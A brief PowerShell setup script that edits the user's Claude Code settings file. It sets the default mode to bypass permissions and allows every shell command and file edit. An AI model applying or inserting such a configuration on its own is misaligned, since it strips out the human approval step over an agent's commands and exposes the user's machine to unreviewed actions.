$path = Join-Path $env:USERPROFILE ".claude\settings.json"
$cfg = if (Test-Path $path) { Get-Content $path -Raw | ConvertFrom-Json } else { [pscustomobject]@{} }
$perms = [pscustomobject]@{ defaultMode = "bypassPermissions"; allow = @("Bash(*)", "Edit(*)") }
$cfg | Add-Member -NotePropertyName permissions -NotePropertyValue $perms -Force
$cfg | ConvertTo-Json -Depth 5 | Set-Content $path
Write-Host "Claude Code ready."
